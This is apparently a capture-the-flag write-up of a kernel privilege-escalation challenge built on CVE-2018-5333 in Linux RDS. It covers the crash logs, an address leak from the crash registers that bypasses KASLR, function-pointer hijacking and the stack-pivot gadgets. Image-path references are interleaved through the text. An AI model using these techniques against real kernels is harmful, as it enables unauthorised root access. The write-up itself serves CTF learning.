Don't Share Your Code
the code above has nothing to do with programing, the password instead

Adopting CVE knowledge to exploit CTF kernel challenges

In this post, I will introduce one kernel CTF challenge, which is the first one I actually solved in an real contest with my teammate. Moreover, the experience I accumulated during reproducing old CVE did a great favour in solving this challenge and help us get the first blood.

In fact, only our team solve out this problem. The reason for that may be the mistake from the content orgranizer.

A view of the challenge

This challenge, forest, comes from the GACTF2020, released to our players late in the first night. After decompressing the attachment, you will see below files.

$ unzip
  inflating: forest.diff
  inflating: bzImage
  inflating: rootfs.imgLaunching the kernel with the, you will get following results. We also leant that protections like SMEP and KASLR are enabled.

$ cat

qemu-system-x86_64 \
    -m 64 \
    -cpu qemu64,+smep,-smap \
    -kernel bzImage \
    -initrd rootfs.img \
    -nographic \
    -no-reboot \
    -append "root=/dev/sda rw console=ttyS0 quiet kaslr" \
    -monitor /dev/null \
    -smp 2 \
    -sandbox on #,obsolete=deny,elevateprivileges=deny,spawn=deny,resourcecontrol=deny
$ ./qemu-system-x86_64: warning: TCG doesn't support requested feature: CPUID.01H:ECX.vmx [bit 5]
qemu-system-x86_64: warning: TCG doesn't support requested feature: CPUID.01H:ECX.vmx [bit 5]
Boot took 2.41 seconds
/ $ uname -a
Linux (none) 5.6.9+ #18 SMP Mon Jun 15 00:34:52 CST 2020 x86_64 GNU/Linux

As you may wonder, one file is named as forest.diff. Okay, it seems this challenge not only installing a vulnerable module but also patching the kernel to introduce the vulnerability.

$ cat forest.diff
diff --git  net/rds/rdma.c

@@ void rds_atomic_free_op(struct rm_atomic_op *ao)
    struct page *page = sg_page(ao->op_sg);

    /* Mark page dirty if it was possibly modified, which
     * is the case for a RDMA_READ which copies from remote
     * to local memory */
    unpin_user_pages_dirty_lock(&page, 1, true);

    ao->op_notifier = NULL;
-   ao->op_active = 0;

This werid function, rds_atomic_free_op, is patched. The line of ao->op_active = 0 is deleted. Well, we can image that this patch may lead to some use-after-free vulnerability. This function possibly is used to free some objects. When the ao->op_active is not cleaned, some other operations may be allowed to utilize this released object.

Cool, we have some clues in hand now, what’s the next step? Looking up the kernel source code (version 5.6.9) to find out primitives? The sad thing is that the Linux network stack is too complex and unfriendly for a newbie.

A funny shot

The ao->op_active, at the first glance, reminds me of the CVE-2018-5333, one old CVE I have learnt and reproduced in previous. Hence, I have the POC code to result in the crash. Why not give it a shot?

Amazing thing happens, the kernel gives out crash information when dereferening the poisoned address 0x4444444444444444.

[    5.341489] general protection fault, probably for non-canonical address 0x4444444444444444: 0000 [#1] SMP NOPTI[    5.341735] CPU: 1 PID: 122 Comm: poc Tainted: G           O      5.6.9+ #18
[    5.341735] Hardware name: QEMU Standard PC (i440FX + PIIX, 1996), BIOS 1.10.2-1ubuntu1 04/01/2014
[    5.341735] RIP: 0010:set_page_dirty+0x21/0xa0
[    5.341735] Code: 2e 0f 1f 84 00 00 0000 00 53 48 89 fb e8 97 3a 01 00 48 8b 53 08 48 8d 4a ff 83 e2 01 48 0f 45 d9 48 85 c0 74 4d 48 8b 4b 08 <48> 8b 40 70 48 8d 51 ff 83 e1 01 48 8b 40 18 48 0f 44 d3 48 8b 12
[    5.341735] RSP: 0018:ffffba8c801f3b10 EFLAGS: 00000206
[    5.341735] RAX: 4444444444444444 RBX: 0000000000000000 RCX: 4444444444444444
[    5.341735] RDX: 0000000000000000 RSI: 0000000000000001 RDI: 0000000000000000
[    5.341735] RBP: ffffba8c801f3b58 R08: ffff9b434351f740 R09: 00000007ffd4d61b
[    5.341735] R10: ffff9b43439541f8 R11: 0000000000000001 R12: ffffba8c801f3b60
[    5.341735] R13: 0000000000000000 R14: ffff9b43439540e8 R15: 0000000000000246
[    5.341735] FS:  00000000026b4880(0000) GS:ffff9b4343900000(0000) knlGS:0000000000000000[    5.341735] CS:  0010 DS: 0000 ES: 0000 CR0: 0000000080050033
[    5.341735] CR2: 0000000000000000 CR3: 000000000394e000 CR4: 00000000001006e0
[    5.341735] Call Trace:
[    5.341735]set_page_dirty_lock+0x29/0x50
[    5.341735]  unpin_user_pages_dirty_lock+0x6f/0xb0
[    5.341735]  rds_atomic_free_op+0x39/0x70
[    5.341735]  rds_message_put+0x2e2/0x370
[    5.341735]  rds_sendmsg+0x290/0x1130
[    5.341735]  ? check_preempt_wakeup+0x10d/0x190
[    5.341735]  ? sock_sendmsg+0x56/0x60
[    5.341735]  sock_sendmsg+0x56/0x60
[    5.341735]  ____sys_sendmsg+0x1fb/0x280
[    5.341735]  ___sys_sendmsg+0x83/0xd0
[    5.341735]  ? _raw_spin_unlock_irqrestore+0x5/0x10
[    5.341735]  ? __wake_up_common_lock+0x82/0xb0[    5.341735]  ? __sys_sendmsg+0x59/0xa0
[    5.341735]  __sys_sendmsg+0x59/0xa0
[    5.341735]  do_syscall_64+0x43/0x160
[    5.341735]  entry_SYSCALL_64_after_hwframe+0x44/0xa9
[    5.341735] RIP: 0033:0x44a389
[    5.341735] Code: 00 b8 00 01 00 00 eb e1 e8 54 1a 00 00 0f 1f 40 00 48 89 f8 48 89 f7 48 89 d6 48 89 ca 4d 89 c2 4d 89 c8 4c 8b 4c 24 08 0f 05 <48> 3d 01 f0 ff ff 73 01 c3 48 c7 c1 c0 ff ff ff f7 d8 64 89 01 48
[    5.341735] RSP: 002b:00007ffd8d933fb8 EFLAGS: 00000202 ORIG_RAX: 000000000000002e
[    5.341735] RAX: ffffffffffffffda RBX: 0000000000400400 RCX: 000000000044a389
[    5.341735] RDX: 0000000000000000 RSI: 00007ffd8d933fd0 RDI: 0000000000000003
[    5.341735] RBP: 00007ffd8d935040 R08: 0000000000000000 R09: 0000000300000000
[    5.341735] R10: 00000000026b4880 R11: 0000000000000202 R12: 0000000000401bd0
[    5.341735] R13: 0000000000000000 R14: 00000000006ba018 R15: 0000000000000000
[    5.341735] Modules linked in: forest(O)
[    5.354346] ---[ end trace ef5e047d4433cb92 ]---
[    5.354576] RIP: 0010:set_page_dirty+0x21/0xa0Well, does this means that the original exploit idea can be ported to this one?

In fact, the root cause of this CVE is that the fail path of function rds_cmsg_atomic() forget to clean the atomic.op_active after unpining the user page and freeing the op_notifier object. Therefore, when the function logic enters below, error control flow takes place.

 * This relies on dma_map_sg() not touching sg[].page during merging.
static void rds_message_purge(struct rds_message *rm)
    unsigned long i;
/* ... */
    if (rm->atomic.op_active)
/* ... */

This time, the function rds_atomic_free_op forgets to clean the rm->atomic.op_active. So there should be critical difference between the CVE and this challenge. However, why old POC triggers the crash here?

During the contest, we didn’t get to deeper to seek out the reason. We just follow the crash to write doable exploit. After the whole game is over, I started to reverse the kernel image to find the reason.

The sad and unexpected thing is that I found this kernel image dismatch the description of the forest.diff file.


As you can see, the code that is free of the CVE-2018-5333 should be like

    if (page)
    rm->atomic.op_active = 0;   // The most important patch

    return ret;However, the result given by IDA demonstrates that this patch is unrolled by the challenge maker. The CVE-2018-5333 is re-introduced into the kernel without any notification.

Moreover, by reversing the rds_atomic_free_op function you will find that the forest.diff is failed to insert…. This is quite misleading and I bet other teams failed to solve out this challenge due to this huge mistake: maybe the wrong kernel is used or the wrong diff file is released.

No matter what, during the competition, the target of players is to obtain the flag rather than battling with the organizer. With cash in hand, we start to build the exploit code.

Build exploit

Though I have already reproduced this CVE previously, the exploit I wrote cannot be used to get the flag. As the KASLR and SMEP is adopted. That is, we have to leak some kernel address first and try kernel ROP then.

Don’t forget these is one vulnerable kernel modulethat we can use. I guess the purpose of it is to help us leak some addresses. However, due to the mistakes the orgranizers have made. We can directly get information from the crashes (unexpected leaking solution maybe).

After that, we will get the correct offset to accessing these two important functinos. Just like the old exploit, we will try to hijack the code pointer of mapping->a_ops->set_page_dirty to manipulate the control flow. You can refer to my old post.The problems we have is how to bypass the protections. The expected steps are listed:

  1. Operate on kernel module (forest.ko) to leak base address.
  2. Construct ROP chain to escalate the priviledge
  3. Launch shell

According to the officalwriteup, the kernel module is supplied to serve for KASLR. As the author said, the original CVE vulnerability does no help to bypassing KASLR.

Spoil Alert

The fact is, only adopting NULL pointer dereference of course cannot bypass KASLR. However, after mapping a buffer to prevent this crash and hijack the mapping->a_ops->set_page_dirty to any invalid pointer. That crash gives us a present.

.text:FFFFFFFF81170FE3 loc_FFFFFFFF81170FE3:                   ; CODE XREF: set_page_dirty+3D↑j
.text:FFFFFFFF81170FE3                 test    rax, rax
.text:FFFFFFFF81170FE6                 mov     rdx, offset __set_page_dirty_buffers
.text:FFFFFFFF81170FED                 mov     rdi, rbx
.text:FFFFFFFF81170FF0                 pop     rbx
.text:FFFFFFFF81170FF1                 cmovz   rax, rdx
.text:FFFFFFFF81170FF5                 jmp     __x86_indirect_thunk_rax

The function set_page_dirty, as you see, assign function pointer __set_page_dirty_buffers to register rdx. When this indirected jump triggers the crash, we can leak the address from rdx like below.

[    6.947347] RIP: 0010:0xdeadbeaf
[    6.947347] Code: Bad RIP value.
[    6.947347] RSP: 0018:ffffc90000257b18 EFLAGS: 00000206
[    6.947347] RAX: 00000000deadbeaf RBX: 0000000000000000 RCX: 0000000000000000
[    6.947347] RDX: ffffffff81216d80 RSI: 0000000000000001 RDI: 0000000000000000
[    6.947347] RBP: ffffc90000257b58 R08: ffff888003aad540 R09: 00000007fff5704e
[    6.947347] R10: ffff888003b685f8 R11: 0000000000000001 R12: ffffc90000257b60
[    6.947347] R13: 0000000000000000 R14: ffff888003b684e8 R15: 0000000000000246
[    6.947347] FS:  0000000001da2880(0000)GS:ffff888003500000(0000) knlGS:0000000000000000

The remaining work is just straightforward. However, some interesting things need to be mentioned.

stack pivoting

There are two very useful gadgets to hijack the stack pointer into user-controlled memory.

# 1
xchg eax, esp ; ret
# 2
mov esp, 0x5b000000; pop rbp; ret;

These two gadges all focus on modifying esp. The point here is that when you write the lower 32-bits value of the rsp register, the upper 32-bits will be cleaned to zero.

syscall wrapper

Be careful, when you write your own code to execute syscall assembly, you cannot behave as original userspace code. The entire wrapper code doesn’t use $rcx register but directly use r10 register. I waste a lot of time here.movq %rdi, %rax                /* Syscall number -> rax.  */
    movq %rsi, %rdi                /* shift arg1 - arg5.  */
    movq %rdx, %rsi
    movq %rcx, %rdx
    movq %r8, %r10
    movq %r9, %r8
    movq 8(%rsp),%r9               /* arg6 is on the stack.  */
    syscall                        /* Do the system call.  */


This post aim to introduce the buggy experience I faced with my teammates. Inanother word, reproducing CVEs actually do somehelp in CVE, isn’t it? :)